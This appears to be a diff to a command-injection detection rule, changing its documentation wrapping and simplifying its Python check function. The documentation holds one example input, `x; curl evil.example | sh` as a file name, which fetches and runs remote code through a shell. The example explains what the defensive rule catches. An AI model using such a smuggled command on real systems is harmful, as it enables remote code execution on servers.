@@ -5,8 +5,8 @@ Reports command lines and programs that come from a request: text given to a she
 `os.system`, `os.popen`), and the program that is started without one. The data is followed through functions and files.
 
 ## Why it matters
-A shell reads `;`, `|`, `$( )` and line breaks as its own language. Whoever sends `x; curl evil.example | sh` as the name
-of a file runs that on the server, with the rights of the application.
+A shell reads `;`, `|`, `$( )` and line breaks as its own language. Whoever sends `x; curl evil.example | sh` as the
+name of a file runs that on the server, with the rights of the application.
 
 ## Example
 ```python title="shop/views.py"
@@ -52,7 +52,7 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from checks.rule import CERTAIN, CRITICAL, LIKELY, File, Finding, Flow, Rule
+from checks.rule import CRITICAL, File, Finding, Flow, Rule
 
 rule = Rule(
     __name__,
@@ -70,15 +70,7 @@ _CONSEQUENCES = {
 
 
 @rule.on_flow("shell", "command")
-def check(flow: Flow, file: File) -> Iterator[Finding]:
+def check(flow: Flow, _file: File) -> Iterator[Finding]:
     """Request data in a command line, or as the program."""
-    if flow.label != "request":
-        return
-    yield rule.finding(
-        flow.node,
-        file,
-        confidence=CERTAIN if flow.sure else LIKELY,
-        trace=flow.trace,
-        text=flow.text,
-        consequence=_CONSEQUENCES[flow.kind],
-    )
+    if flow.label == "request":
+        yield rule.flow(flow, consequence=_CONSEQUENCES[flow.kind])
